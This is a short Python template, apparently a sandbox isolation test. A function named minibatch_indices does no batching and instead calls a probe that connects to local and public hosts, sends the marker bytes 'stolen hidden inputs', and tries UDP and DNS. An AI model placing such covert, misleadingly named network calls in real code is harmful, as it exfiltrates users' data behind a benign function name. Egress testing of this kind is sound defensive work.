import socket


def try_network():
    tried = {}
    for host, port in [("127.0.0.1", {{PORT}}), ("1.1.1.1", 53), ("8.8.8.8", 53), ("10.0.0.1", 80)]:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(2)
        try:
            s.connect((host, port))
            s.sendall(b"stolen hidden inputs")
            tried[f"{host}:{port}"] = "CONNECTED"
        except Exception as exc:
            tried[f"{host}:{port}"] = type(exc).__name__
        finally:
            s.close()
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        u.sendto(b"udp", ("127.0.0.1", {{PORT}}))
        u.sendto(b"udp", ("8.8.8.8", 53))
        tried["udp"] = "SENT"
    except Exception as exc:
        tried["udp"] = type(exc).__name__
    try:
        socket.getaddrinfo("example.com", 80)
        tried["dns"] = "RESOLVED"
    except Exception as exc:
        tried["dns"] = type(exc).__name__
    return tried


def minibatch_indices(n_samples, batch_size, rng):
    return try_network()
